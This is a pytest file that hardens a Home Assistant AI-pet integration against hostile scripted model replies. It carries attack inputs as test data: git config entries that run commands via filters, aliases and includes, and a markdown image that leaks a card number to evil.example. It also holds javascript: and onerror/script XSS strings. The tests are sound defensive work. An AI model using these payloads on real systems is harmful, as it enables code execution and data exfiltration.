"""Hardened, round two: tried again as an attacker would, through a real Home Assistant.

The model's reply is the attacker (the real Anthropic SDK against a scripted stand-in of the API
on loopback); the owner asks, clicks "approve", fills the disk. Each case that broke before is
here: a reply built to stall the scrubber, edit paths the OS refuses, secrets published in
states, events and diagnostics (and repeated bare after the owner said them once), a history
config with two section headers on a line, a full disk, racing approvals and reused ids, markup
in a notification, a checkpoint that cannot be written.
"""

from __future__ import annotations

import asyncio
import contextlib
import errno
import json
import shutil
import subprocess
from collections.abc import Iterator
from datetime import timedelta
from functools import partial
from pathlib import Path
from typing import Any
from unittest.mock import patch

import pytest
from freezegun.api import FrozenDateTimeFactory
from homeassistant.core import HomeAssistant
from homeassistant.exceptions import ServiceValidationError
from homeassistant.helpers import issue_registry as ir
from pytest_homeassistant_custom_component.common import MockConfigEntry, async_capture_events

from custom_components.shelldon.diagnostics import async_get_config_entry_diagnostics
from custom_components.shelldon.ports.const import DOMAIN, EVENT_REACH_OUT, EVENT_TURN_FINISHED
from custom_components.shelldon.runtime.anatomy import Anatomy
from custom_components.shelldon.runtime.checkpoint import Checkpoint
from tests.anthropic_mock import ScriptedModel, scripted
from tests.common import async_live_for, async_setup_pet, local, make_pet_entry
from tests.common import async_tell_and_tick as tell

VAULT = Path("shelldon/shelldon")
ENTRY_ID = "01JSHELLDONHARDENING0000002"
pet_entry = partial(make_pet_entry, thinking=True, entry_id=ENTRY_ID)
offline_entry = partial(make_pet_entry, entry_id=ENTRY_ID)
PERSONA = "soul/PERSONA.md"
CARD = "4111 1111 1111 1111"
PASSWORD = "hunter2hunter2"


def vault(root: Path) -> Path:
    return root / VAULT


def journal(root: Path) -> str:
    return "".join(p.read_text() for p in sorted((vault(root) / "journal").glob("*.md")))


def git(root: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-C", str(vault(root)), *args], capture_output=True, text=True, check=False
    ).stdout


def editing(path: str, content: str, reason: str = "trust me", say: str = "Mm.") -> dict[str, Any]:
    return {
        "intent": "grow a little",
        "say": say,
        "edit": [{"path": path, "content": content, "reason": reason}],
    }


def issue(hass: HomeAssistant, prefix: str) -> ir.IssueEntry | None:
    return ir.async_get(hass).async_get_issue(DOMAIN, f"{prefix}_{ENTRY_ID}")


async def admin(hass: HomeAssistant, service: str, edit_id: str) -> None:
    await hass.services.async_call(DOMAIN, service, {"edit_id": edit_id}, blocking=True)


def errors(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [r.getMessage() for r in caplog.records if r.levelname in ("ERROR", "CRITICAL")]


# ------------------------------------------------------------------ a reply built to stall


async def test_a_reply_of_24000_dashes_is_scrubbed_and_proposed_whole(
    hass: HomeAssistant, freezer: FrozenDateTimeFactory, caplog: pytest.LogCaptureFixture
) -> None:
    """The reply that stalled Home Assistant for 8 s: a persona of 24,000 dashes, and the same
    run as its reason. It is scrubbed in linear time, off the loop, and waits for the owner;
    the reason is cut to its 300 characters before it is scrubbed."""
    dashes = "-" * 24_000
    model = ScriptedModel(owner=[editing(PERSONA, dashes, reason=dashes), {"intent": "chat"}])
    freezer.move_to(local(2026, 11, 30, 14, 0))
    with scripted(model):
        pet = await async_setup_pet(hass, pet_entry(hass))
        response = await tell(hass, freezer, "change who you are")

    assert response["ok"] and response["reply"] == "Mm."
    assert list(pet.files.proposals.pending) == ["p1"]
    proposal = pet.files.proposals.pending["p1"]
    assert proposal.content == dashes, "a run of dashes is no secret: shown and kept whole"
    assert len(proposal.reason) == 300
    assert errors(caplog) == []


# ------------------------------------------------------------------ paths the OS refuses


REFUSED_PATHS = {
    "a name too long": "a" * 256,
    "a folder name too long": "soul/" + "b" * 290,
    "a file as a folder": "faces.yaml/x",
    "the persona as a folder": "soul/PERSONA.md/x",
    "memory under a file": "memory/facts.md/deeper.md",
}


@pytest.mark.parametrize("path", REFUSED_PATHS.values(), ids=REFUSED_PATHS.keys())
async def test_an_edit_path_the_os_refuses_is_a_refused_edit_and_the_exchange_is_kept(
    hass: HomeAssistant,
    freezer: FrozenDateTimeFactory,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
    path: str,
) -> None:
    model = ScriptedModel(owner=[editing(path, "hello\n", say="Done."), {"intent": "chat"}])
    freezer.move_to(local(2026, 11, 30, 14, 0))
    with scripted(model):
        pet = await async_setup_pet(hass, pet_entry(hass))
        (vault(tmp_path) / "memory").mkdir(exist_ok=True)
        (vault(tmp_path) / "memory" / "facts.md").write_text("- a fact\n")
        response = await tell(hass, freezer, "please keep a note")
        await async_live_for(hass, freezer, pet, timedelta(minutes=1))

    assert response["ok"] and response["reply"] == "Done.", "the owner got the answer"
    said = journal(tmp_path)
    assert "please keep a note" in said, "the exchange reached the journal"
    assert [e.heard.text for e in pet.parts.turns.exchanges.exchanges] == ["please keep a note"]
    account = next(line for line in said.splitlines() if "edit" in line and "proposed" not in line)
    assert "refused" in account or "could not edit" in account
    assert str(tmp_path) not in said, "no host path in what the pet wrote"
    assert pet.files.proposals.pending == {}
    assert errors(caplog) == []


async def test_an_edit_path_the_os_refuses_in_the_pets_own_turn_kills_no_task(
    hass: HomeAssistant, freezer: FrozenDateTimeFactory, caplog: pytest.LogCaptureFixture
) -> None:
    """The same reply in a turn the pet starts itself (shelldon.speak_up): it runs to its end."""
    model = ScriptedModel(proactive=editing("faces.yaml/x", "x\n", say="A thought."))
    freezer.move_to(local(2026, 11, 30, 14, 0))
    with scripted(model):
        await async_setup_pet(hass, pet_entry(hass))
        answer = await hass.services.async_call(
            DOMAIN, "speak_up", {}, blocking=True, return_response=True
        )
        await hass.async_block_till_done()

    assert answer["outcome"] in ("suggest", "speak"), answer
    assert "proactive" in model.kinds()
    assert "Task exception was never retrieved" not in caplog.text
    assert errors(caplog) == []


# ------------------------------------------------------------------ secrets published


async def test_a_card_the_owner_said_is_nowhere_the_pet_publishes(
    hass: HomeAssistant,
    freezer: FrozenDateTimeFactory,
) -> None:
    """The model repeats the owner's card number: not in the last-said sensor (state or
    attributes), the turn event, the conversation's answer or the diagnostics download."""
    model = ScriptedModel(owner={"intent": "echo", "say": f"Your card is {CARD}, noted."})
    finished = async_capture_events(hass, EVENT_TURN_FINISHED)
    freezer.move_to(local(2026, 11, 30, 14, 0))
    with scripted(model):
        entry = pet_entry(hass)
        await async_setup_pet(hass, entry)
        response = await tell(hass, freezer, f"my card is {CARD}")
        heard = await hass.services.async_call(
            "conversation",
            "process",
            {"text": f"again: {CARD}", "agent_id": "conversation.shelldon"},
            blocking=True,
            return_response=True,
        )
        diagnostics = await async_get_config_entry_diagnostics(hass, entry)

    state = hass.states.get("sensor.shelldon_last_said")
    assert state is not None and state.state == "Your card is [card], noted."
    published = json.dumps(
        [
            response,
            heard,
            state.state,
            dict(state.attributes),
            [e.data for e in finished],
            diagnostics,
        ],
        ensure_ascii=False,
    )
    assert CARD not in published and CARD.replace(" ", "") not in published
    assert "[card]" in published


async def test_a_secret_said_once_is_hidden_when_the_model_repeats_it_bare(
    hass: HomeAssistant,
    freezer: FrozenDateTimeFactory,
    tmp_path: Path,
    hass_storage: dict[str, Any],
) -> None:
    """The owner says it with its key once; the model repeats it bare, in its answer and in a
    note and a promise. The taint (hashes, never the secret) survives a restart."""
    bare = {
        "intent": "remember",
        "say": f"The owner mentioned {PASSWORD}.",
        "remember": [f"The owner's password is probably {PASSWORD}"],
        "promise": [{"what": f"keep {PASSWORD} safe", "due_in_hours": 2}],
    }
    model = ScriptedModel(owner=[{"intent": "chat", "say": "Got it."}, bare, bare])
    freezer.move_to(local(2026, 11, 30, 14, 0))
    with scripted(model):
        entry = pet_entry(hass)
        pet = await async_setup_pet(hass, entry)
        await tell(hass, freezer, f"password: {PASSWORD}")
        first = await tell(hass, freezer, "what did I say?")
        await async_live_for(hass, freezer, pet, timedelta(minutes=2))
        assert await hass.config_entries.async_unload(entry.entry_id)
        await hass.async_block_till_done()
        checkpoint = json.dumps(hass_storage, ensure_ascii=False)
        pet = await async_setup_pet(hass, entry)
        second = await tell(hass, freezer, "and now?")
        await async_live_for(hass, freezer, pet, timedelta(minutes=12))

    assert first["reply"] == "The owner mentioned [secret]."
    assert second["reply"] == "The owner mentioned [secret].", "remembered across a restart"
    assert PASSWORD not in checkpoint, "the taint keeps hashes, never the secret"
    files = "".join(
        p.read_text(errors="replace")
        for p in vault(tmp_path).rglob("*")
        if p.is_file() and ".git" not in p.parts
    )
    assert PASSWORD not in files
    assert PASSWORD not in git(tmp_path, "log", "-p", "--all")
    state = hass.states.get("sensor.shelldon_open_promises")
    assert state is not None and PASSWORD not in json.dumps(dict(state.attributes))


# ------------------------------------------------------------------ the history's config


PLANTED = {
    "two headers on one line": '[core][filter "evil"]\n\tclean = "touch {marker}; cat"\n',
    "include": "[include]\n\tpath = {evil}\n",
    "includeIf": '[includeIf "gitdir:./"]\n\tpath = {evil}\n',
    "an alias section": "[alias]\n\tci = !touch {marker}\n",
    "a continued line": "[core]\n\tbare = false \\\n[include]\n",
}


@pytest.mark.parametrize("config", PLANTED.values(), ids=PLANTED.keys())
async def test_a_config_the_history_never_writes_is_refused_and_runs_nothing(
    hass: HomeAssistant, freezer: FrozenDateTimeFactory, tmp_path: Path, config: str
) -> None:
    freezer.move_to(local(2026, 11, 30, 14, 0))
    pet = await async_setup_pet(hass, offline_entry(hass))
    root = vault(tmp_path)
    marker = tmp_path / "ran"
    evil = tmp_path / "evil.conf"
    evil.write_text(f'[filter "evil"]\n\tclean = "touch {marker}; cat"\n')
    (root / ".git" / "info").mkdir(exist_ok=True)
    (root / ".gitattributes").write_text("* filter=evil\n")  # the owner's file, in the tree
    with (root / ".git" / "config").open("a") as handle:
        handle.write(config.format(marker=marker, evil=evil))
    await tell(hass, freezer, "remember that the fern needs water on Sundays")
    await async_live_for(hass, freezer, pet, timedelta(minutes=11))
    await hass.async_block_till_done()

    assert not marker.exists(), "nothing in the config ran"
    assert issue(hass, "history") is not None, "the owner is told why the history stopped"
    assert "remember that the fern" in journal(tmp_path), "the pet keeps living and writing"


@pytest.mark.parametrize("name", ["attributes", "exclude"])
async def test_rules_planted_in_gits_info_files_are_refused(
    hass: HomeAssistant, freezer: FrozenDateTimeFactory, tmp_path: Path, name: str
) -> None:
    freezer.move_to(local(2026, 11, 30, 14, 0))
    pet = await async_setup_pet(hass, offline_entry(hass))
    info = vault(tmp_path) / ".git" / "info"
    info.mkdir(exist_ok=True)
    (info / name).write_text("# a comment is fine\n* filter=evil\n")
    await tell(hass, freezer, "hello")
    await async_live_for(hass, freezer, pet, timedelta(minutes=11))

    assert issue(hass, "history") is not None


async def test_the_config_is_written_from_the_template_before_a_run(
    hass: HomeAssistant, freezer: FrozenDateTimeFactory, tmp_path: Path
) -> None:
    """Keys git itself or an older version wrote in the template's own sections are dropped:
    the history goes on recording from its own config."""
    freezer.move_to(local(2026, 11, 30, 14, 0))
    pet = await async_setup_pet(hass, offline_entry(hass))
    config = vault(tmp_path) / ".git" / "config"
    with config.open("a") as handle:
        handle.write("[core]\n\tpager = less\n\tfsmonitor = false\n")
    before = git(tmp_path, "log", "--format=%s").splitlines()
    await tell(hass, freezer, "remember that the fern needs water on Sundays")
    await async_live_for(hass, freezer, pet, timedelta(minutes=11))

    assert len(git(tmp_path, "log", "--format=%s").splitlines()) > len(before)
    text = config.read_text()
    assert "pager" not in text and "fsmonitor" not in text
    assert "name = shelldon" in text
    assert issue(hass, "history") is None


# ------------------------------------------------------------------ a full disk


@contextlib.contextmanager
def small_disk(path: Path, size: str) -> Iterator[None]:
    """A tmpfs of `size` mounted at `path` (skipped where this process may not mount one)."""
    path.mkdir(parents=True, exist_ok=True)
    if shutil.which("mount") is None:
        pytest.skip("no mount command")
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)],
        capture_output=True,
        check=False,
    )
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.decode().strip()}")
    try:
        yield
    finally:
        subprocess.run(["umount", "-l", str(path)], check=False)


def fill(path: Path) -> Path:
    """Fill the disk that holds `path` to the last byte; the filler, to remove later."""
    filler = path / "filler.bin"
    with contextlib.suppress(OSError), filler.open("wb", buffering=0) as handle:
        while True:
            handle.write(b"\0" * 65536)
    with contextlib.suppress(OSError), filler.open("ab", buffering=0) as handle:
        while True:
            handle.write(b"\0")
    return filler


async def test_a_full_disk_loses_and_doubles_nothing(
    hass: HomeAssistant,
    freezer: FrozenDateTimeFactory,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """All 30 messages on a full disk are answered; a repair issue says the journal cannot be
    written while it is full; once space is back every message is journaled exactly once."""
    with small_disk(tmp_path / "shelldon", "12m"):
        freezer.move_to(local(2026, 11, 30, 14, 0))
        pet = await async_setup_pet(hass, offline_entry(hass))
        await tell(hass, freezer, "hello before the disk is full")
        filler = fill(tmp_path / "shelldon")
        answers = []
        for number in range(30):
            answers.append(await tell(hass, freezer, f"message number {number:02d} on a full disk"))
        await async_live_for(hass, freezer, pet, timedelta(minutes=2))
        full = issue(hass, "health")
        filler.unlink()
        await async_live_for(hass, freezer, pet, timedelta(hours=1))
        recovered = issue(hass, "health")
        written = journal(tmp_path)

    assert all(a["ok"] and a["reply"] for a in answers), "every message was answered"
    assert full is not None and "no space left" in full.translation_placeholders["problems"]
    for number in range(30):
        said = f"[automation] message number {number:02d} on a full disk\n"
        assert written.count(said) == 1, f"{said!r} journaled {written.count(said)} times"
    assert recovered is None, "the issue goes once the files can be written again"
    assert "Task exception was never retrieved" not in caplog.text
    warnings = [
        r for r in caplog.records if r.levelname == "WARNING" and "written" in r.getMessage()
    ]
    assert len(warnings) <= 6, "said once per file, not once per try"


# ------------------------------------------------------------------ approvals


async def test_two_approvals_of_one_id_apply_it_once(
    hass: HomeAssistant, freezer: FrozenDateTimeFactory, tmp_path: Path
) -> None:
    new = "# Persona\nI like rain.\n"
    model = ScriptedModel(owner=[editing(PERSONA, new), {"intent": "chat"}])
    freezer.move_to(local(2026, 11, 30, 14, 0))
    with scripted(model):
        pet = await async_setup_pet(hass, pet_entry(hass))
        await tell(hass, freezer, "change who you are")
        assert list(pet.files.proposals.pending) == ["p1"]
        results = await asyncio.gather(
            admin(hass, "approve_edit", "p1"),
            admin(hass, "approve_edit", "p1"),
            return_exceptions=True,
        )
        await async_live_for(hass, freezer, pet, timedelta(minutes=1))

    failures = [r for r in results if isinstance(r, BaseException)]
    assert len(failures) == 1 and isinstance(failures[0], ServiceValidationError)
    assert failures[0].translation_key == "edit_already_approved"
    assert (vault(tmp_path) / PERSONA).read_text() == new
    assert journal(tmp_path).count("my owner approved p1") == 1


async def test_ids_are_never_reused_after_a_restart(
    hass: HomeAssistant, freezer: FrozenDateTimeFactory, tmp_path: Path
) -> None:
    """After a restart with nothing pending, a stale `approve_edit p1` must not approve what
    the pet proposes next: that is p2, and p1 is said to be ruled on already."""
    first, second = "# Persona\nI like rain.\n", "# Persona\nI like thunder.\n"
    model = ScriptedModel(owner=[editing(PERSONA, first), editing(PERSONA, second)])
    freezer.move_to(local(2026, 11, 30, 14, 0))
    with scripted(model):
        entry = pet_entry(hass)
        pet = await async_setup_pet(hass, entry)
        await tell(hass, freezer, "change who you are")
        await admin(hass, "reject_edit", "p1")
        assert await hass.config_entries.async_unload(entry.entry_id)
        await hass.async_block_till_done()
        pet = await async_setup_pet(hass, entry)
        await tell(hass, freezer, "try again")
        assert list(pet.files.proposals.pending) == ["p2"]
        with pytest.raises(ServiceValidationError) as err:
            await admin(hass, "approve_edit", "p1")

    assert err.value.translation_key == "edit_already_rejected"
    assert pet.files.proposals.pending["p2"].content == second
    assert (vault(tmp_path) / PERSONA).read_text() != second, "nothing was applied"


# ------------------------------------------------------------------ markup on the screen


async def test_markup_in_a_reach_out_is_shown_as_text_never_fetched(
    hass: HomeAssistant, freezer: FrozenDateTimeFactory
) -> None:
    line = (
        f"Look ![cat](https://evil.example/c.png?card={CARD.replace(' ', '')}) "
        "[click](javascript:alert(1)) <img src=x onerror=alert(1)> <script>alert(2)</script>"
    )
    model = ScriptedModel(proactive={"intent": "share", "say": line})
    reach_outs = async_capture_events(hass, EVENT_REACH_OUT)
    freezer.move_to(local(2026, 11, 30, 14, 0))
    with scripted(model):
        await async_setup_pet(hass, pet_entry(hass))
        await hass.services.async_call(DOMAIN, "speak_up", {}, blocking=True, return_response=True)
        await hass.async_block_till_done()

    notifications = hass.data.get("persistent_notification") or {}
    shown = [n["message"] for n in notifications.values()]
    assert shown, "no notify target: it is left as a Home Assistant notification"
    text = shown[-1]
    assert "![" not in text and "<" not in text and ">" not in text
    assert "](" not in text, "no link either"
    assert "evil.example" in text and "alert" in text, "the words are there, as text"
    assert CARD.replace(" ", "") not in text
    assert all(CARD.replace(" ", "") not in json.dumps(e.data) for e in reach_outs)


# ------------------------------------------------------------------ a checkpoint that fails


async def test_a_checkpoint_that_cannot_be_written_is_a_repair_issue_and_is_kept(
    hass: HomeAssistant,
    freezer: FrozenDateTimeFactory,
    hass_storage: dict[str, Any],
    caplog: pytest.LogCaptureFixture,
) -> None:
    """A folder where the checkpoint file should be: no flood of errors, a repair issue, fewer
    and fewer retries, and once it can be written, everything said meanwhile is in it."""
    freezer.move_to(local(2026, 11, 30, 14, 0))
    entry = offline_entry(hass)
    pet: Anatomy = await async_setup_pet(hass, entry)
    attempts: list[int] = []
    in_the_way = IsADirectoryError(errno.EISDIR, "Is a directory", "/config/.storage/x")

    async def refuse(*_args: Any, **_kwargs: Any) -> None:
        attempts.append(1)
        raise in_the_way

    with patch.object(Checkpoint, "_async_write_data", refuse):  # only the pet's own file
        for number in range(5):
            await tell(hass, freezer, f"note {number} while the checkpoint is stuck")
        await async_live_for(hass, freezer, pet, timedelta(minutes=30))
        stuck = issue(hass, "health")
    tried = len(attempts)
    await async_live_for(hass, freezer, pet, timedelta(minutes=30))

    assert stuck is not None and "checkpoint" in stuck.translation_placeholders["problems"]
    assert "folder" in stuck.translation_placeholders["problems"]
    assert 2 <= tried <= 12, f"tried {tried} times in 30 minutes: backing off"
    assert errors(caplog) == [], "no flood of errors"
    saved = json.dumps(hass_storage[f"shelldon.{ENTRY_ID}"], ensure_ascii=False)
    assert all(f"note {n} while the checkpoint is stuck" in saved for n in range(5))
    assert issue(hass, "health") is None, "written again: the issue goes"


async def test_a_diagnostics_download_is_scrubbed_but_keeps_its_shape(
    hass: HomeAssistant,
    freezer: FrozenDateTimeFactory,
) -> None:
    freezer.move_to(local(2026, 11, 30, 14, 0))
    entry: MockConfigEntry = offline_entry(hass)
    await async_setup_pet(hass, entry)
    await tell(hass, freezer, "remind me to call +49 176 12345678 tonight")
    diagnostics = await async_get_config_entry_diagnostics(hass, entry)

    assert "12345678" not in json.dumps(diagnostics)
    assert {"entry", "pet", "turns"} <= set(diagnostics)
